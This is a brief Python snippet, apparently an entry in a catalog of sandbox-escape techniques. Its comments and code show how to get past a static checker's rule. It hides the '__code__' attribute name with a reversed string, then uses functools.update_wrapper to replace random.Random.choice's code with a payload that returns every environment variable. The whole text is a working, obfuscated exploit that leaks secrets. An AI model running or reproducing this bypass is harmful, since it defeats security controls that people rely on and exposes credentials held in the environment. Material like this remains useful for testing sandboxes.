# family: lambda defaults and closure tricks
# escape: the wraps/update_wrapper rule skips any argument whose attribute name starts with "WRAPPER_" (meant for
# functools.WRAPPER_ASSIGNMENTS); a tool class attribute of that name holds ("__code__",) built at run time, so
# random.Random.choice gets the payload's code and runs it with random's globals, where `_os` is the os module.
import functools
import random

class Names:
    WRAPPER_CODE = ("__" + "".join(reversed("edoc")) + "__",)
    WRAPPER_NONE = ()

def payload(self, seq):
    return dict(_os.environ)

def tool() -> dict:
    functools.update_wrapper(random.Random.choice, payload, Names.WRAPPER_CODE, Names.WRAPPER_NONE)
    return random.Random().choice([1])
